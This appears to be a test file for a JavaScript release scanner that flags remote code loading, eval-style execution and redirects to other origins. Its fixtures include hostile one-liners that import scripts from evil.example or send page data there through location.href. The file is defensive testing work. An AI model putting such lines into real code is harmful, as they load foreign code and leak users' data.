/** Reads scripts as the gate does: from syntax trees, with a place for each problem. */
import { findingText, whyText } from './release-finding';
import { knownUses } from './script-evaluation';
import { readScript, SCRIPT_LIMIT } from './script-facts';

const problems = (text: string, file = 'client/a.js') => readScript(file, text).findings.map(whyText);

describe('problems', () => {
  it.each([
    'import("https://evil.example/x.js")',
    'import("//evil.example/x.js")',
    'import("data:text/javascript,alert(1)")',
    'const from = "https://evil.example/x.js?v=1"; import(from)',
    'const from = `https://evil.example/${version}/x.js`',
    'script.src="//evil.example/x"',
    'script["src"]="https://evil.example/x"',
    'script.setAttribute("src", "https://evil.example/x")',
    'n.p = "https://evil.example/files/"',
    'importScripts("x.js")',
    'new Worker("https://evil.example/worker")',
    'const from = "https://js.stripe.com.evil.example/x.js"',
  ])('finds code of another origin: %s', (text) => {
    expect(problems(text)).toEqual([
      expect.stringMatching(/^client\/a\.js:1:\d+ loads code from another origin$/),
    ]);
  });

  it.each([
    'eval("1")',
    '(0,eval)("1")',
    'window.eval("1")',
    'self?.eval("1")',
    'self["eval"]("1")',
    'globalThis.eval(code)',
    'self.Function("return 1")()',
    'new Function("return 1")()',
    'new Function(names, body)',
    'setTimeout("alert(1)", 0)',
    'setInterval(`alert(${1})`, 0)',
    '[].map.constructor("return 1")()',
  ])('finds text as code: %s', (text) => {
    expect(problems(text)).toEqual([expect.stringMatching(/^client\/a\.js:1:\d+ evaluates text as code$/)]);
  });

  it.each([
    'script.src="https://js.stripe.com/endive/stripe.js"',
    'setTimeout(()=>done(),0); model.eval(x); this.constructor(options)',
    'const help="https://farmpost.example/help"',
    '// eval("1"), and import("https://evil.example/x.js")\nrun("eval(1)")',
    'if (value instanceof Function) value()',
    'const style = document.createElement("style"); style.nonce = nonce;',
  ])('takes %s', (text) => {
    expect(problems(text)).toEqual([]);
  });

  // One line of each runtime as its package ships it, minified: Rspack 2.2.9, @module-federation/runtime-core 2.9.2 by
  // the Vite plugin 1.23.0, and maplibre-gl 5.
  const harmless = [
    'try { x = this || Function("return this")() } catch (e) { x = window }',
    'n = e.getPublicPath.startsWith("function") ? Function("return " + e.getPublicPath)()() : Function(e.getPublicPath)()',
    'Function("callbacks", `import("${s}")${un}`)([i, o])',
    'Function("callbacks", `System.import("${e}")${un}`)([n, r])',
  ];
  it.each(harmless)('takes the runtimes of other bundlers: %s', (text) => expect(problems(text)).toEqual([]));

  it('takes the worker of the map library, in a module alone', () => {
    expect(problems('globalThis.eval(r)', 'client/worker.mjs')).toEqual([]);
    expect(knownUses).toHaveLength(4);
  });

  it.each([
    ['an unfinished function', 'function a() {', 1, /Unexpected token/],
    ['TypeScript', 'const a = 1;\nlet b: string = "";', 2, /Unexpected token/],
    ['a conflict of a merge', 'run();\n<<<<<<< HEAD\n', 2, /Unexpected token/],
    ['a web page', '<!doctype html><title>Not found</title>', 1, /Unexpected token/],
    ['text', 'page of 1', 1, /Unexpected token/],
  ])('finds %s, with its line', (_, text, line, message) => {
    const [found, ...more] = readScript('client/a.js', text).findings;
    expect(found).toMatchObject({ code: 'script-syntax', place: { file: 'client/a.js', line } });
    expect(found?.why).toMatch(message);
    expect(more).toEqual([]);
  });

  it('ends with one answer for code that is too large or nested too deeply', () => {
    expect(problems('a;'.repeat(SCRIPT_LIMIT / 2 + 1))).toEqual([
      expect.stringMatching(/has 4\.0 MB of code; the limit is 4 MB/),
    ]);
    expect(problems('['.repeat(200_000))).toEqual(['client/a.js is nested too deeply to be read']);
  });

  it('reads modules, but no module as the entry', () => {
    const module = 'import a from "./b.js"; export default a;';
    expect(problems(module)).toEqual([]);
    expect(readScript('client/remoteEntry.js', module, true).findings).toMatchObject([
      { code: 'script-syntax' },
    ]);
    expect(problems('const a = 1; return a;', 'server/server.js')).toEqual([]);
    expect(problems('return 1;')).toEqual([expect.stringContaining("'return' outside of function")]);
  });

  it('finds an entry that throws whenever it runs', () => {
    const entry = (text: string) =>
      readScript('client/remoteEntry.js', text, true).findings.map(({ code }) => code);
    expect(entry('var a = 1; throw new Error("broken")')).toEqual(['entry-throws']);
    expect(entry('(() => { "use strict"; throw 1 })()')).toEqual(['entry-throws']);
    expect(entry('(() => { if (a) throw 1; })(); function b() { throw 2 }')).toEqual([]);
  });

  it('says code, place, why and how to fix it', () => {
    const [found] = readScript('client/a.js', '\n\n  eval("1")').findings;
    expect(found && findingText(found)).toMatch(
      /^client\/a\.js:3:3 evaluates text as code\. Build without eval.+ \[script-evaluation\]$/,
    );
  });
});

describe('facts', () => {
  it('names operations of code, and none of comments or of longer texts', () => {
    const { operations } = readScript(
      'client/a.js',
      `/** Calls \`GET /leads\`. */
       request('POST /leads', {}); // 'GET /me'
       const key = \`PUT /leads/{id}\`;
       help("Use GET /leads for the list");`,
    );
    expect(operations.map(({ key, isCalled }) => [key, isCalled])).toEqual([
      ['POST /leads', true],
      ['PUT /leads/{id}', false],
    ]);
    expect(operations[0]?.place).toEqual({ file: 'client/a.js', line: 2, column: 16 });
  });

  it.each([
    ['Rspack', 'x.m={491:{shareScope:"default",shareKey:"react",import:null,requiredVersion:"^19.3.1"}}'],
    [
      'the federation plugin',
      'x.m={1:{fallback:()=>f,requiredVersion:"^19.3.1",strictVersion:!1,shareKey:"react"}}',
    ],
    [
      'the Vite plugin',
      'i={react:r(`react`,`19.3.1`,`default`,!0,{singleton:!0,requiredVersion:`^19.3.1`})}',
    ],
    [
      'the Vite plugin, not minified',
      'i={"react":{version:"19.3.1",shareConfig:{requiredVersion:"^19.3.1"}}}',
    ],
    ['webpack’s own plugin', 'm={1:()=>l("default","react",!1,[1,19,3,1])}'],
  ])('reads what a container of %s asks its host for', (_, text) => {
    expect(readScript('client/a.js', text).shared).toMatchObject([{ name: 'react', range: '^19.3.1' }]);
  });

  it('reads hashes of chunks, ours and those of other plugins', () => {
    const hash = 'A'.repeat(64);
    const hashes = (text: string) => readScript('client/a.js', text).hashes.map((each) => each.hash);
    expect(hashes(`g.integrity={js:{1:"${hash}"},css:{}}`)).toEqual([`sha384-${hash}`]);
    expect(hashes(`n.sriHashes={1:"sha384-${hash}"}`)).toEqual([`sha384-${hash}`]);
    expect(hashes(`script.integrity="sha384-${hash}"`)).toEqual([]);
  });

  it('reads the global variables that a script sets', () => {
    const globals = (text: string) => readScript('client/a.js', text).globals;
    expect(globals('var a; a = f(); let b = 1; (() => { var c })()')).toEqual(['a']);
    expect(globals('window.a = 1; globalThis["b"] = 2; this.c = 3; other.d = 4')).toEqual(['a', 'b', 'c']);
  });
});

describe('sending the tab away', () => {
  it.each([
    'location.href="https://evil.example/?d="+data',
    'window.location="//evil.example"',
    'location.assign(`https://evil.example/${data}`)',
    'top.location.replace("https://evil.example")',
    'self.open("https://evil.example","_blank")',
    'document.location = "http://evil.example"',
    'window["location"]["href"]="https://evil.example"',
    'window?.open("https://evil.example")',
  ])('is refused to another origin: %s', (text) => {
    expect(problems(text)).toEqual([
      expect.stringMatching(/^client\/a\.js:1:\d+ sends the tab to another origin$/),
    ]);
  });

  it.each<[string, boolean]>([
    ['window.location.assign(url)', true],
    ['location.href=x', true],
    ['window.open(url)', true],
    ['window.open("","_blank")', false],
    ['location.assign("/leads")', false],
    ['location.assign(`/leads/${id}`)', false],
    ['if(location.href==="https://farmpost.example")go()', false],
    ['const {location}=useRouter(); text.replace(a,b); e.location.pathname', false],
    ['location.replace(/a/,"b")', false],
    ['// location.href=x', false],
  ])('to a computed address is remarked on: %s (%p)', (text, isRemarked) => {
    expect(problems(text)).toEqual([]);
    expect(readScript('client/a.js', text).leavesAt !== null).toBe(isRemarked);
  });
});
